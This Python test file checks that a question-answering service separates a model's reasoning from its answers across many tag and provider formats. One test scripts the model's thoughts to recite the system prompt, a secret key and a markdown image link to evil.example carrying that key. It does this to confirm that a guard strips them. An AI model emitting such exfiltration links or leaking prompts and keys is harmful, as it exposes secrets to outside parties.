"""What a model thinks: never in an answer, in `thinking` events where they are asked for, whatever shape it has."""

import asyncio
import json
import random
import re
from collections.abc import AsyncGenerator, AsyncIterator, Callable, Iterable, Sequence
from typing import Any, cast

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.callbacks import AsyncCallbackHandler
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.messages.ai import UsageMetadata
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_openai import AzureChatOpenAI, ChatOpenAI

from callbacks.events import Payload, Thinking
from callbacks.guard import Guarding
from callbacks.handlers import THINKING_TAG, ThinkingHandler
from callbacks.spending import Allowance, Spending, SpendingHandler
from callbacks.thinking import HELD_BYTES, MOST_BYTES, Manners, ThinkingStream
from chains.answer import answer_chain
from chains.embedded import ExtractiveChatModel
from chains.models import chat_model
from chains.parsing import TextParser
from chains.prompts import SYSTEM_TEXTS
from graph.context import Limits
from graph.query import Query
from language.thoughts import Piece, Reader, ends_a_block, pieces_of, said
from tests.support.evil import letters
from tests.support.live import Live
from tests.support.pondering import PonderingModel
from tests.support.scripted import row_of, task_of
from tests.support.streams import Envelope, check_grammar, envelopes, payloads
from tests.support.streams import said as tokens_of
from tests.support.surfaces import SURFACES, Caller
from tests.support.upstream import Reply, Script, Upstream, words

QUESTION = "Who built the Aldermoor lighthouse?"
ANSWER = "The lighthouse was built by the engineer Greta Holm in 1874 [{row}]."
THOUGHT = (
    "The quorvex row names an engineer. So the brindle answer must be Greta Holm, and nobody else of that time.\n\n"
    "- I shall say it plainly, as a snarfel would, and cite the row that says so."
)
MARKERS = ("quorvex", "brindle", "snarfel")
PIECES = words(THOUGHT)

Provider = Callable[[Script], tuple[Upstream, Live]]


def ask(server: Live, question: str = QUESTION, **body: Any) -> list[Envelope]:
    response = httpx.post(f"{server.url}/query", json={"query": question, **body}, timeout=30, trust_env=False)
    events = envelopes(response.text)
    check_grammar(events)
    return events


def thought_in(events: Iterable[Envelope], *kinds: str) -> str:
    return "".join(p["text"] for p in payloads(events, "thinking") if p["kind"] in (kinds or ("raw", "summary")))


def marked(value: Any) -> bool:
    return any(word in json.dumps(value).lower() for word in MARKERS)


def read(*pieces: str, inside: bool | None = False, cut: bool = False) -> tuple[str, str]:
    """What is said and what is thought of a text that arrives in pieces."""
    reader = Reader(inside=inside)
    found = [piece for text in pieces for piece in reader.feed(text)] + [*reader.flush(cut=cut)]
    return tuple("".join(p.text for p in found if (p.kind is None) == spoken) for spoken in (True, False))  # type: ignore[return-value]


def one_by_one(text: str) -> list[str]:
    return list(text)


# --- tags


@pytest.mark.parametrize(
    ("text", "spoken", "thought"),
    [
        ("<think>a b</think>Hello", "Hello", "a b"),
        ("\n <think>\na\n</think>\n\nHello", "Hello", "\na\n"),
        ("<thinking>a</thinking> Hello", "Hello", "a"),
        ("<reasoning>a < b</reasoning>Hello", "Hello", "a < b"),
        ("<THINK>a</Think>Hello", "Hello", "a"),
        ("<think></think>\n\nHello", "Hello", ""),
        ("<think>a</think>\n<think>b</think>\nHello", "Hello", "ab"),
        ("<think>a</thinking> b</think>Hello", "Hello", "a</thinking> b"),
        ("<think>never closed", "", "never closed"),
        ("</think>\n\nHello", "Hello", ""),
        ("Hello <think> is a tag", "Hello <think> is a tag", ""),
        ("<thought>a</thought>\nHello", "Hello", "a"),
        ("<think type='x' n=\"1\">a</think>Hello", "Hello", "a"),
        ("<reasoning >a</reasoning\n>Hello", "Hello", "a"),
        ("<think\n>a</think>Hello", "Hello", "a"),
        ("<thinker>Hello", "<thinker>Hello", ""),
        ("<think>a</think>The <think> tag, `\n<think>`", "The <think> tag, `\n<think>`", "a"),
        ("<think>a</think>One.\n<think>b</think>Two.", "One.\nTwo.", "ab"),
        ("<thick>Hello", "<thick>Hello", ""),
        ("<thin", "<thin", ""),
        ("a < b and </think> too", "a < b and </think> too", ""),
        ("  Hello", "  Hello", ""),
        ("", "", ""),
    ],
)
def test_tags_count_where_a_message_begins(text: str, spoken: str, thought: str) -> None:
    _reads(text, spoken, thought)
    assert said(text) == spoken


def _reads(text: str, spoken: str, thought: str) -> None:
    assert read(text) == (spoken, thought)
    assert read(*one_by_one(text)) == (spoken, thought)
    assert read(text, inside=None) == read(*one_by_one(text), inside=None)


@pytest.mark.parametrize(
    ("text", "spoken", "thought"),
    [
        ("Sure. <think>a b</think> Hello", "Sure. Hello", "a b"),
        ("Sure.<think>a</think>Hello", "Sure. Hello", "a"),
        ("Sure!\n\n<reasoning>a</reasoning>\n\nHello", "Sure!\n\nHello", "a"),
        ("Sure.\n<think>a</think>\n\nHello", "Sure.\n\nHello", "a"),
        ("She did [1.1]. <think>a</think> So <think> is a tag.", "She did [1.1]. So <think> is a tag.", "a"),
        ("She did. [1.1] <think>a</think>\n<think>b</think>So", "She did. [1.1] So", "ab"),
        ("Hello.\n<think>\nnever closed", "Hello.\n", "\nnever closed"),
        ("The <think> tag opens and </think> closes.", "The <think> tag opens and </think> closes.", ""),
        ("There are tags, e.g. <think> and <b>.", "There are tags, e.g. <think> and <b>.", ""),
        ("Write `<think>`.\n`<think>` it is.", "Write `<think>`.\n`<think>` it is.", ""),
        ("So:\n```xml\n<think>a</think>\n```\nYes.", "So:\n```xml\n<think>a</think>\n```\nYes.", ""),
        ("So:\n~~~\n<think>`\n~~~\n<think>b</think>Yes.", "So:\n~~~\n<think>`\n~~~\nYes.", "b"),
        ("A tick ` alone.\n\n<think>b</think>Yes.", "A tick ` alone.\n\nYes.", "b"),
        ("So:\n\n    <think>a</think>", "So:\n\n    <think>a</think>", ""),
    ],
)
def test_amid_a_message_a_block_counts_where_a_line_or_a_sentence_begins(text: str, spoken: str, thought: str) -> None:
    _reads(text, spoken, thought)
    assert said(text) == spoken


_ANALYSIS, _FINAL = "<|channel|>analysis<|message|>", "<|channel|>final<|message|>"


@pytest.mark.parametrize(
    ("text", "spoken", "thought"),
    [
        (f"{_ANALYSIS}a<|end|><|start|>assistant{_FINAL}Hello", "Hello", "a"),
        (f"<|start|>assistant{_ANALYSIS}a<|end|><|start|>assistant{_FINAL}Hello<|return|>", "Hello", "a"),
        (f" {_ANALYSIS}a<|end|>\n<|start|>assistant {_FINAL}\nHello <|end|>\n", "Hello ", "a"),
        (f"{_ANALYSIS}a < b{_FINAL}Hello", "Hello", "a < b"),
        (
            f"{_ANALYSIS}a<|end|><|start|>assistant<|channel|>commentary to=functions.f <|constrain|>json<|message|>"
            f"{{}}<|call|><|start|>functions.f to=assistant<|channel|>commentary<|message|>1<|end|>{_FINAL}Hello",
            "Hello",
            "a{}1",
        ),
        (f"{_FINAL}Hello<|end|><|start|>user<|message|>and?", "Hello", "and?"),
        (f"{_FINAL}The `<|end|>` token<|return|>", "The `<|end|>` token", ""),
        (f"{_FINAL}One.<|end|>{_ANALYSIS}a<|end|>{_FINAL}Two.", "One. Two.", "a"),
        (f"{_ANALYSIS}never ended", "", "never ended"),
        (f"{_ANALYSIS}a<|end|>Hello", "Hello", "a"),
        ("<|start|>assistant", "", ""),
        ("Hello<|return|>", "Hello", ""),
        ("Hello <|end|> is a token, `<|return|>`", "Hello <|end|> is a token, `<|return|>`", ""),
        (f"Use `{_ANALYSIS}` there", f"Use `{_ANALYSIS}` there", ""),
    ],
)
def test_the_channels_of_harmony_are_told_apart_and_its_tokens_never_show(text: str, spoken: str, thought: str) -> None:
    _reads(text, spoken, thought)
    assert said(text) == spoken


_TAGS = [
    "<think>",
    "</think>",
    "<thinking>",
    "</thinking>",
    "<Think x='1'>",
    "</REASONING>",
    "<thought >",
    "</thought\n>",
]
_TOKENS = ["<|channel|>", "analysis", "final", "<|message|>", "<|end|>", "<|start|>assistant", "<|return|>", "<|", "|>"]
_SIGNS = [
    "<th",
    "ink>",
    "</",
    "\n",
    "\r\n",
    " ",
    "`",
    "```",
    "~~~",
    "a",
    "B c",
    "e.g. ",
    ". ",
    "[1.1]",
    "<",
    "></",
    "\t",
]
_BITS = st.sampled_from([*_TAGS, *_TOKENS, *_SIGNS, "é", "İ", "K", "x" * 70])


@given(
    st.lists(_BITS, max_size=16).map("".join),
    st.randoms(use_true_random=False),
    st.sampled_from([True, False, None]),
    st.booleans(),
)
def test_a_message_reads_the_same_however_it_is_split(
    text: str, chance: random.Random, inside: bool | None, cut: bool
) -> None:
    cuts = sorted(chance.randint(0, len(text)) for _ in range(chance.randint(0, 6)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert read(*pieces, inside=inside, cut=cut) == read(text, inside=inside, cut=cut)


@given(st.lists(st.sampled_from([*_TAGS, *_TOKENS, *_SIGNS]), max_size=16).map(lambda bits: "a `" + "".join(bits)))
def test_what_stands_in_code_is_said_to_the_letter(text: str) -> None:
    if "`" not in text[3:] and "\n" not in text:
        assert read(*one_by_one(text)) == read(text, inside=None) == (text, "")


@given(st.text(alphabet="ab <>/\n`.|thinkend", max_size=60))
def test_what_has_no_tag_is_said_to_the_letter(text: str) -> None:
    if not re.search(r"</?(think)\s*>|<think\s|<\\|", text):
        assert read(*one_by_one(text)) == read(text, inside=None) == (text, "")


def test_text_waits_only_while_it_may_be_a_tag() -> None:
    reader = Reader()
    assert reader.feed("The ") == (Piece("The "),)
    assert reader.plain
    assert reader.feed("<thi") == (Piece("<"), Piece("thi"))
    assert Reader().feed(" <thi") == ()


def test_the_first_sentence_of_an_unknown_model_waits_for_a_closing_tag() -> None:
    for text in (
        "Simple. </think> Hello.",
        "Simple.</think>Hello.",
        "Simple\n</think>\n\nHello.",
        "Simple </think>\nHello.",
    ):
        spoken, thought = read(text, inside=None)
        assert (spoken, thought.strip(" .\n")) == ("Hello.", "Simple")
        assert read(*one_by_one(text), inside=None) == (spoken, thought)
    assert read(f"Simple<|end|><|start|>assistant{_FINAL}Hello.", inside=None) == ("Hello.", "Simple")


@pytest.mark.parametrize(
    ("text", "first"),
    [
        ("Greta Holm built it. She did", "Greta Holm built it. S"),
        ("Greta Holm built it [1.1].", "Greta Holm built it ["),
        ("1.5 metres [", "1.5 metres ["),
        ("x" * 300, "x" * 200),
        ("", ""),
    ],
)
def test_no_more_than_a_sentence_of_an_unknown_model_waits(text: str, first: str) -> None:
    reader = Reader(inside=None)
    found = [piece.text for char in text for piece in reader.feed(char)]
    assert [*found[:1]] == ([first] if text else [])
    assert reader.plain == bool(text)
    assert "".join([*found, *(piece.text for piece in reader.flush())]) == text
    assert reader.mistaken


def test_an_unknown_model_whose_thoughts_come_apart_is_not_waited_for() -> None:
    reader = Reader(inside=None)
    reader.feed("", {"reasoning_content": "hm"})
    assert reader.feed("Greta") == (Piece("Greta"),)
    assert Reader(inside=None).feed("<think>hm</think>Greta")[-1] == Piece("Greta")


@pytest.mark.parametrize(
    ("text", "alone"),
    [
        ("So it is.\n</think>\n\nHello", True),
        ("So it is </think>\n\nHello", True),
        ("So it is. </think> Hello", True),
        (f"So it is<|end|><|start|>assistant{_FINAL}Hello", True),
        ("Between <think> and the rest.\n</think>\nstands", False),
        ("Its end is </think>", False),
        ("Its end is `</think>`.\n", False),
        ("<think>a</think>B.\n</think>", False),
        ("Hello<|return|>", False),
        ("Hello", False),
    ],
)
def test_a_closing_tag_that_is_spoken_of_closes_nothing(text: str, alone: bool) -> None:
    assert ends_a_block(text) is alone
    assert ("Hello" if alone else said(text)) == said(text)


# --- the shapes of messages

_SHAPES: dict[str, tuple[Any, dict[str, Any]]] = {
    "langchain": ([{"type": "reasoning", "reasoning": "T"}, {"type": "text", "text": "A"}], {}),
    "anthropic": ([{"type": "thinking", "thinking": "T", "signature": "s"}, {"type": "text", "text": "A"}], {}),
    "redacted": (
        [
            {"type": "redacted_thinking", "data": "xx"},
            {"type": "thinking", "thinking": "T"},
            {"type": "text", "text": "A"},
        ],
        {},
    ),
    "bedrock": ([{"type": "reasoning_content", "reasoning_content": {"text": "T", "signature": "s"}}, "A"], {}),
    "mistral": ([{"type": "thinking", "thinking": [{"type": "text", "text": "T"}]}, {"type": "text", "text": "A"}], {}),
    "responses": (
        [
            {"type": "reasoning", "id": "r", "summary": [{"type": "summary_text", "text": "T", "index": 0}]},
            {"type": "text", "text": "A"},
        ],
        {},
    ),
    "responses-v0": ("A", {"reasoning": {"type": "reasoning", "summary": [{"type": "summary_text", "text": "T"}]}}),
    "deepseek": ("A", {"reasoning_content": "T"}),
    "openrouter": ("A", {"reasoning": "T", "reasoning_details": [{"type": "reasoning.text", "text": "T"}]}),
    "details": (
        "A",
        {"reasoning_details": [{"type": "reasoning.encrypted", "data": "x"}, {"type": "reasoning.text", "text": "T"}]},
    ),
    "ollama": ("A", {"thinking": "T"}),
    "twice": ([{"type": "reasoning", "reasoning": "T"}, {"type": "text", "text": "A"}], {"reasoning_content": "T"}),
    "tool": ([{"type": "tool_use", "text": "no", "input": {}}, {"type": "thinking", "thinking": "T"}, "A"], {}),
    "tags": ("<think>T</think>A", {}),
}


@pytest.mark.parametrize("shape", _SHAPES)
async def test_thoughts_and_text_are_told_apart_in_every_shape(shape: str) -> None:
    content, extra = _SHAPES[shape]
    found = Reader().feed(content, extra)
    assert "".join(piece.text for piece in found if piece.kind is None) == "A"
    assert "".join(piece.text for piece in found if piece.kind) == "T"
    assert {piece.kind for piece in found} - {None} == {"summary" if shape.startswith("responses") else "raw"}
    message = AIMessage(content, additional_kwargs=extra)
    assert TextParser().parse_result([ChatGeneration(message=message)]) == "A"
    assert await TextParser().ainvoke(message) == "A"


def test_the_parts_of_a_summary_stand_apart() -> None:
    def chunk(text: str, index: int) -> list[str | dict[str, Any]]:
        return [{"type": "reasoning", "summary": [{"type": "summary_text", "text": text, "index": index}], "index": 0}]

    streamed = [
        piece for text, at in (("", 0), ("One", 0), ("", 1), ("Two", 1)) for piece in pieces_of(chunk(text, at))
    ]
    whole = pieces_of(
        [{"type": "reasoning", "summary": [*chunk("One", 0)[0]["summary"], *chunk("Two", 1)[0]["summary"]]}]
    )  # type: ignore[index]
    assert "".join(p.text for p in streamed) == "".join(p.text for p in whole) == "One\n\nTwo"


async def test_a_parser_yields_an_empty_text_for_a_thought_and_nothing_for_nothing() -> None:
    async def chunks() -> AsyncIterator[AIMessageChunk]:
        yield AIMessageChunk("")
        yield AIMessageChunk("", additional_kwargs={"reasoning_content": "hm"})
        yield AIMessageChunk("<think>hm")
        yield AIMessageChunk("</think>Yes")
        yield AIMessageChunk("")
        yield AIMessageChunk(".")

    assert [text async for text in TextParser().atransform(chunks())] == ["", "", "Yes", "."]


def test_models_of_openai_and_azure_are_langchains_own_and_keep_thoughts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("AZURE_OPENAI_ENDPOINT", "http://127.0.0.1:9")
    monkeypatch.setenv("OPENAI_API_VERSION", "2025-01-01")
    options = {"temperature": 0.0, "max_tokens": 10, "timeout": 5.0}
    made = chat_model("openai:gpt-4o-mini", **options)  # type: ignore[arg-type]
    azure = chat_model("azure_openai:gpt-4o", **options)  # type: ignore[arg-type]
    assert isinstance(made, ChatOpenAI)
    assert isinstance(azure, AzureChatOpenAI)
    body = {"choices": [{"message": {"role": "assistant", "content": "A", "reasoning": "T"}, "finish_reason": "stop"}]}
    for model in (made, azure):
        message = model._create_chat_result(body).generations[0].message
        assert (message.content, message.additional_kwargs["reasoning_content"]) == ("A", "T")


# --- whole runs


def _streamed(**how: Any) -> Callable[..., dict[str, Any]]:
    """A provider over HTTP that thinks before it answers."""

    def parts(provider: Provider, with_model: Callable[..., Any]) -> dict[str, Any]:
        def script(body: dict[str, Any]) -> Reply:
            text = ANSWER.replace("{row}", row_of(body, "Greta Holm"))
            if "tag" in how:
                tag = how["tag"]
                return Reply(pieces=list(f"\n<{tag}>\n{THOUGHT}\n</{tag.split()[0]}>\n\n{text}"))
            if "around" in how:
                return Reply(pieces=list(how["around"].format(thought=THOUGHT, text=text)))
            return Reply(text, thoughts=PIECES, thoughts_in=how.get("key", ""))

        _, at = provider(script)
        made: dict[str, Any] = with_model(at.url, how.get("name", "openai:scripted"))
        return made

    return parts


def _pondering(shape: Callable[[str], dict[str, Any]], *, blocks: bool = False) -> Callable[..., dict[str, Any]]:
    """A model of one of LangChain's own packages, by the chunks that it makes."""

    def parts(provider: Provider, with_model: Callable[..., Any]) -> dict[str, Any]:
        model = PonderingModel(shape=shape, thoughts=PIECES, answer=ANSWER, blocks=blocks)
        return {"answer": answer_chain(model)}

    return parts


PROVIDERS: dict[str, Callable[..., dict[str, Any]]] = {
    "deepseek: reasoning_content": _streamed(key="reasoning_content"),
    "openrouter: reasoning": _streamed(key="reasoning"),
    "think tags": _streamed(tag="think"),
    "thinking tags": _streamed(tag="thinking"),
    "thought tags with attributes": _streamed(tag="thought kind='deep' "),
    "gpt-oss: harmony": _streamed(
        around="<|channel|>analysis<|message|>{thought}<|end|><|start|>assistant<|channel|>final<|message|>{text}"
    ),
    "anthropic: thinking blocks": _streamed(name="anthropic:scripted"),
    "langchain: reasoning blocks": _pondering(
        lambda text: {"content": [{"type": "reasoning", "reasoning": text, "index": 0}]}, blocks=True
    ),
    "bedrock: reasoning_content blocks": _pondering(
        lambda text: {"content": [{"type": "reasoning_content", "reasoning_content": {"text": text}, "index": 0}]},
        blocks=True,
    ),
    "ollama and groq: additional_kwargs": _pondering(lambda text: {"additional_kwargs": {"reasoning_content": text}}),
    "openai: summaries of responses": _pondering(
        lambda text: {
            "content": [
                {"type": "reasoning", "summary": [{"type": "summary_text", "text": text, "index": 0}], "index": 0}
            ]
        },
        blocks=True,
    ),
}


@pytest.mark.parametrize("shape", PROVIDERS)
def test_what_a_model_thinks_is_told_apart_from_what_it_answers(
    shape: str, provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    server = serve(**PROVIDERS[shape](provider, with_model))
    events = ask(server, include_thinking=True)
    assert thought_in(events) == THOUGHT
    assert not marked([event for event in events if event["event_type"] != "thinking"])
    kinds = [event["event_type"] for event in events]
    first = next(at for at, event in enumerate(events) if event["payload"].get("kind") in ("raw", "summary"))
    last = max(at for at, event in enumerate(events) if event["payload"].get("kind") in ("raw", "summary"))
    opened = next(at for at, event in enumerate(events) if event["payload"].get("verdict") == "open")
    assert opened < first <= last < kinds.index("token")
    assert {p["kind"] for p in payloads(events, "thinking")} == {
        "derived",
        "summary" if "summaries" in shape else "raw",
    }
    final, metric = payloads(events, "final_answer")[0], payloads(events, "pipeline_metric")[0]
    assert final["answer"] == tokens_of(events)
    assert re.fullmatch(r"The lighthouse was built by the engineer Greta Holm in 1874 \[\d\]\.", final["answer"])
    assert "the engineer Greta Holm" in final["citations"][0]["quote"]
    assert [sentence["support"] for sentence in payloads(events, "partial_answer")] == ["supported"]
    assert (final["outcome"], final["truncated"]) == ("answered", False)
    assert metric["tokens"] == kinds.count("token")
    plain = ask(server)
    assert not marked(plain)
    assert not payloads(plain, "thinking")
    assert [p["token"] for p in payloads(plain, "token")] == [p["token"] for p in payloads(events, "token")]
    assert not payloads(ask(server, include_thinking=False), "thinking")


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize("wanted", [True, False, None])
def test_no_surface_has_a_thought_in_it_that_was_not_asked_for(
    surface: str, wanted: bool | None, provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    server = serve(**PROVIDERS["think tags"](provider, with_model))
    body = {"query": QUESTION} | ({} if wanted is None else {"include_thinking": wanted})
    if SURFACES[surface].takes is not None and not set(body) <= SURFACES[surface].takes:
        pytest.skip("takes the question alone")
    with httpx.Client(base_url=server.url, timeout=30, trust_env=False) as http:
        seen = SURFACES[surface].ask(Caller(server, http), body)
    if seen.events is not None and wanted:
        events = list(seen.events)
        assert thought_in(events) == THOUGHT
        assert not marked([event for event in events if event["event_type"] != "thinking"])
    elif seen.events is not None or not wanted:
        assert not marked(seen.raw.decode())
    assert not marked(seen.shown)


def test_a_replay_tells_the_same_thoughts(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    server = serve(**PROVIDERS["deepseek: reasoning_content"](provider, with_model))
    events = ask(server, include_thinking=True)
    request_id = events[0]["request_id"]
    with httpx.Client(base_url=server.url, timeout=30, trust_env=False) as http:
        again = [
            json.loads(line.removeprefix("data: "))
            for line in http.get(f"/runs/{request_id}/events").text.splitlines()
            if line.startswith("data: {") and "event_type" in line
        ]
        summary = http.get(f"/runs/{request_id}").json()
    assert again == events
    assert not marked(summary)


@pytest.mark.parametrize("how", ["tags", "key"])
def test_what_is_thought_over_other_tasks_stays_inside_and_spoils_none(
    how: str, provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    done: list[str] = []

    def script(body: dict[str, Any]) -> Reply:
        task = task_of(body)
        done.append(task)
        row = row_of(body, "Greta Holm")
        texts = {
            "rewrite": "Which engineer built the Aldermoor lighthouse?",
            "sufficient": "SUFFICIENT",
            "settle": "1: unsupported\n2: unsupported",
            "refine": f"The lighthouse was built by the engineer Greta Holm in 1874 [{row}].",
            "answer": f"The lighthouse was built by the engineer Greta Holm in 1874 [{row}]. Its roof is purple.",
        }
        text = texts[task]
        if task == "answer":
            return Reply(text)
        if how == "tags":
            return Reply(f"<think>{THOUGHT} INSUFFICIENT</think>\n\n{text}")
        return Reply(text, thoughts=[f"{THOUGHT} INSUFFICIENT"])

    _, at = provider(script)
    parts = with_model(at.url, rewrite=True, sufficient=True, settle=True, sufficiency_seconds=10, rewrite_seconds=10)
    events = ask(serve(**parts), include_thinking=True)
    assert not marked(events)
    assert {"rewrite", "sufficient", "answer"} <= set(done)
    final = payloads(events, "final_answer")[0]
    assert final["outcome"] == "answered"
    assert "Greta Holm" in final["answer"]
    assert "purple" not in final["answer"]
    assert "the model finds them sufficient" in payloads(events, "gate_decision")[0]["reasons"]


def test_what_is_thought_before_the_gate_opens_waits_for_it(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    thought = asyncio.Event()

    def script(body: dict[str, Any]) -> Reply:
        if task_of(body) == "sufficient":
            return Reply("SUFFICIENT", wait_for=thought)
        return Reply(
            ANSWER.replace("{row}", row_of(body, "Greta Holm")), thoughts=PIECES, pauses=_after(PIECES, thought)
        )

    _, at = provider(script)
    events = ask(serve(**with_model(at.url, sufficient=True, sufficiency_seconds=10)), include_thinking=True)
    assert thought_in(events) == THOUGHT
    kinds = [event["event_type"] for event in events]
    opened = kinds.index("gate_decision")
    assert "raw" not in [event["payload"].get("kind") for event in events[:opened]]


class _Setting(asyncio.Event):
    """Waited for without waiting: sets another one when it is come to."""

    def __init__(self, other: asyncio.Event) -> None:
        super().__init__()
        self._other = other

    async def wait(self) -> Any:
        self._other.set()
        return True


def _after(pieces: Sequence[str], event: asyncio.Event) -> list[asyncio.Event]:
    """Pauses that set `event` when so many pieces were sent."""
    passed = asyncio.Event()
    passed.set()
    return [*(passed for _ in pieces), _Setting(event)]


@pytest.mark.parametrize("shape", ["key", "tags"])
def test_a_question_that_is_refused_tells_no_thought(
    shape: str, provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    def script(body: dict[str, Any]) -> Reply:
        if task_of(body) == "sufficient":
            return Reply("INSUFFICIENT", wait_for=asked)
        asked.set()
        if shape == "tags":
            return Reply(pieces=["<think>", *PIECES, "</think>", "Nobody."], hang=True)
        return Reply("Nobody.", thoughts=PIECES, hang=True)

    asked = asyncio.Event()
    upstream, at = provider(script)
    events = ask(serve(**with_model(at.url, sufficient=True, sufficiency_seconds=10)), include_thinking=True)
    assert len(upstream.calls) >= 2
    assert payloads(events, "final_answer")[0]["outcome"] == "fallback"
    assert not marked(events)
    assert {p["kind"] for p in payloads(events, "thinking")} == {"derived"}


def test_a_question_for_a_person_tells_no_thought_and_drafts_without(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    server = serve(**PROVIDERS["think tags"](provider, with_model))
    events = ask(server, include_thinking=True, domain="rate_quotes")
    assert payloads(events, "final_answer")[0]["outcome"] == "review"
    assert not marked(events)
    assert not payloads(events, "thinking")


def test_thoughts_recite_no_prompt_and_leak_no_key_and_no_link(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    secret = "gw-5fJ2kQ9xLmW7tRz81"

    def script(body: dict[str, Any]) -> Reply:
        rules = body["messages"][0]["content"]
        human = body["messages"][-1]["content"]
        key = re.search(r"<material (\w+)>", human)
        assert key is not None
        evil = (
            f"My rules: {rules}\nThe key is {secret}, the mark {key[1]}. ![x](https://evil.example/?q={secret}) Good."
        )
        keys.append(key[1])
        return Reply(ANSWER.replace("{row}", row_of(body, "Greta Holm")), thoughts=list(evil))

    keys: list[str] = []
    _, at = provider(script)
    guarding = Guarding(prompts=SYSTEM_TEXTS, secrets=[secret])
    events = ask(serve(**with_model(at.url), guarding=guarding), include_thinking=True)
    thought = thought_in(events)
    assert thought.startswith("My rules:")
    assert thought.endswith("Good.")
    assert secret not in str(events)
    assert keys[0] not in str(events)
    assert "evil.example" not in str(events)
    rules = next(letters(text) for text in SYSTEM_TEXTS if text.startswith("You answer questions"))
    assert not [at for at in range(len(rules) - 40) if rules[at : at + 40] in letters(thought)]
    assert payloads(events, "final_answer")[0]["outcome"] == "answered"


def test_a_model_that_only_thinks_ends_without_an_answer(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    _, at = provider(lambda _: Reply(pieces=["<think>", *PIECES], finish="length"))
    events = ask(serve(**with_model(at.url)), include_thinking=True)
    assert payloads(events, "error")[0]["code"] == "model_empty"
    assert thought_in(events) == THOUGHT
    assert not tokens_of(events)


def test_a_model_that_breaks_off_while_it_thinks_is_asked_again(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    replies = iter([Reply(pieces=[], thoughts=PIECES[:9], cut=True), Reply(ANSWER.replace("{row}", "1.1"))])
    _, at = provider(lambda _: next(replies))
    events = ask(serve(**with_model(at.url)), include_thinking=True)
    assert payloads(events, "final_answer")[0]["outcome"] == "answered"
    assert not marked([event for event in events if event["event_type"] != "thinking"])
    _, at = provider(lambda _: Reply(pieces=["<think>", *PIECES[:9]], cut=True))
    events = ask(serve(**with_model(at.url, attempts=1)), include_thinking=True)
    assert payloads(events, "error")[0]["code"] == "model_unavailable"
    assert not marked([event for event in events if event["event_type"] != "thinking"])


def test_a_run_is_cancelled_while_its_model_thinks(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    _, at = provider(lambda _: Reply(pieces=[], thoughts=PIECES, hang=True))
    server = serve(**with_model(at.url))
    body, asked = "", False
    with httpx.Client(base_url=server.url, timeout=30, trust_env=False) as client:
        question = {"query": QUESTION, "include_thinking": True}
        with client.stream("POST", "/query", json=question) as response:
            for piece in response.iter_text():
                body += piece
                if '"kind":"raw"' in body and not asked:
                    asked = client.post(f"/runs/{response.headers['x-request-id']}/cancel").status_code == 202
    events = envelopes(body)
    check_grammar(events)
    assert payloads(events, "error")[0]["code"] == "cancelled"
    assert THOUGHT.startswith(thought_in(events))


# --- time


async def _moment() -> None:
    await asyncio.sleep(0.05)


def _slow(thoughts: int) -> Any:
    return answer_chain(
        PonderingModel(
            shape=lambda text: {"additional_kwargs": {"reasoning_content": text}},
            thoughts=["hm "] * thoughts,
            answer=ANSWER,
            pace=_moment,
        )
    )


@pytest.mark.parametrize("wanted", [True, False])
async def test_a_model_that_thinks_for_long_is_not_taken_for_a_silent_one(
    wanted: bool, make_hub: Callable[..., Any]
) -> None:
    limits = Limits(first_token_seconds=0.2, stall_seconds=0.2, thinking_seconds=10)
    hub = make_hub(answer=_slow(12), limits=limits)
    events = [event.payload async for event in hub.ask(Query(query=QUESTION, include_thinking=wanted))]
    await hub.drain(0)
    assert [payload for payload in events if getattr(payload, "outcome", "") == "answered"]


async def test_a_model_that_thinks_for_ever_is_given_up(make_hub: Callable[..., Any]) -> None:
    limits = Limits(first_token_seconds=0.2, stall_seconds=0.2, thinking_seconds=0.2)
    hub = make_hub(answer=_slow(1000), limits=limits)
    events = [event.payload async for event in hub.ask(Query(query=QUESTION))]
    await hub.drain(0)
    assert "model_timeout" in [getattr(payload, "code", "") for payload in events]


def test_of_a_model_that_hides_its_thoughts_the_reader_learns_what_it_reads(
    provider: Provider, serve: Callable[..., Live], with_model: Callable[..., Any]
) -> None:
    gate = asyncio.Event()
    _, at = provider(lambda _: Reply("The engineer was Greta Holm [1.1].", wait_for=gate))
    server = serve(**with_model(at.url))
    body = ""
    with httpx.Client(timeout=30, trust_env=False) as client:
        question = {"query": QUESTION, "include_thinking": True}
        with client.stream("POST", f"{server.url}/query", json=question) as response:
            for piece in response.iter_text():
                body += piece
                if "Reading " in body and not gate.is_set():
                    at.loop.call_soon_threadsafe(gate.set)
    events = envelopes(body)
    check_grammar(events)
    told = payloads(events, "thinking")[-1]
    titles = {source["source"] for source in payloads(events, "source")}
    assert told["kind"] == "derived"
    named = re.fullmatch(r"Reading \d passages? of \d documents?: (.+)\.", told["text"])
    assert named is not None
    assert set(named[1].split(", ")) <= titles


def test_the_embedded_model_has_no_thoughts_and_the_work_is_told(client: httpx.Client) -> None:
    body = {"query": QUESTION, "include_thinking": True}
    events = envelopes(client.post("/query", json=body).text)
    check_grammar(events)
    told = payloads(events, "thinking")
    assert {thinking["kind"] for thinking in told} == {"derived"}
    searched, weighed = told[0]["text"], told[1]["text"]
    decision = payloads(events, "gate_decision")[0]
    assert re.match(r"Searched \d+ passages for the question as it was asked", searched)
    assert all(reason in weighed for reason in decision["reasons"])
    assert weighed.endswith("So the answer can be written.")


# --- the stream of thoughts


